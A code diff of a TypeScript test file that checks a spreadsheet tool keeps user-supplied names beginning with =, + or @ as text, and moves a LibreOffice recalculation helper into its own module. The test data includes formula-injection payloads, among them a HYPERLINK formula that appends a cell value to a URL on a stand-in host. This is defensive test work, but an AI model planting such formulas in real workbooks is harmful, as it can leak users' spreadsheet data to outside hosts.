@@ -3,17 +3,16 @@
  * in the merged and template workbooks as text. LibreOffice (headless) recalculates every formula
  * on load; a live formula would show its result ("Bấm", 5), a text shows itself.
  */
-import { execFileSync } from "node:child_process";
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { mkdtempSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import path from "node:path";
 import ExcelJS from "exceljs";
-import { parseCsv } from "../../src/cli/csv";
 import { mergeFiles } from "../../src/cli/merge";
 import { sheetPlanWorkbook } from "../../src/cli/xlsx-write";
 import { DEFAULT_SETTINGS } from "../../src/core/model";
 import { templateSheet } from "../../src/core/templates";
 import { run } from "./helpers";
+import { recalculated } from "./soffice";
 
 const work = mkdtempSync(path.join(tmpdir(), "chitieu-inj-"));
 afterAll(() => rmSync(work, { recursive: true, force: true }));
@@ -21,36 +20,6 @@ afterAll(() => rmSync(work, { recursive: true, force: true }));
 const HYPERLINK = '=HYPERLINK("http://x.example/?x="&E2,"Bấm")';
 const SUM = "+2+3";
 const AT = "@SUM(1,1)";
-
-function recalculated(xlsx: string): (string | null)[][] {
-  const profile = path.join(work, "profile");
-  mkdirSync(path.join(profile, "user"), { recursive: true });
-  writeFileSync(
-    path.join(profile, "user", "registrymodifications.xcu"),
-    `<?xml version="1.0" encoding="UTF-8"?>
-<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
-<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop></item>
-</oor:items>
-`,
-  );
-  const out = path.join(work, `lo-${path.basename(xlsx, ".xlsx")}`);
-  mkdirSync(out, { recursive: true });
-  execFileSync(
-    "soffice",
-    [
-      "--headless",
-      "--norestore",
-      `-env:UserInstallation=file://${profile}`,
-      "--convert-to",
-      "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false",
-      "--outdir",
-      out,
-      xlsx,
-    ],
-    { stdio: "pipe", timeout: 180_000 },
-  );
-  return parseCsv(readFileSync(path.join(out, `${path.basename(xlsx, ".xlsx")}.csv`), "utf8"), ",").rows;
-}
 
 /** Cells ExcelJS reads back as formulas: must be only the ones core generated (SUM, IFERROR, …). */
 async function formulaTexts(file: string): Promise<string[]> {
@@ -101,7 +70,7 @@ test("a merged workbook keeps formula-like names, groups and unit names as text 
   expect(formulas.length).toBeGreaterThan(0);
   expect(formulas.filter((f) => /HYPERLINK|^2\+3|@/.test(f))).toEqual([]);
 
-  const lo = recalculated(out).flat();
+  const lo = recalculated(out, work).flat();
   expect(lo).toContain(HYPERLINK);
   expect(lo).toContain(SUM);
   expect(lo).not.toContain("Bấm");
@@ -116,7 +85,7 @@ test("a template's --unit and a person's name starting with =, + or @ stay text 
   await sheetPlanWorkbook(plan).xlsx.writeFile(atFile);
 
   expect((await formulaTexts(out)).filter((f) => f === "2+3")).toEqual([]);
-  const lo = recalculated(out);
+  const lo = recalculated(out, work);
   expect(lo[1]?.[0]).toBe("=2+3");
-  expect(recalculated(atFile)[1]?.[0]).toBe(AT);
+  expect(recalculated(atFile, work)[1]?.[0]).toBe(AT);
 }, 240_000);
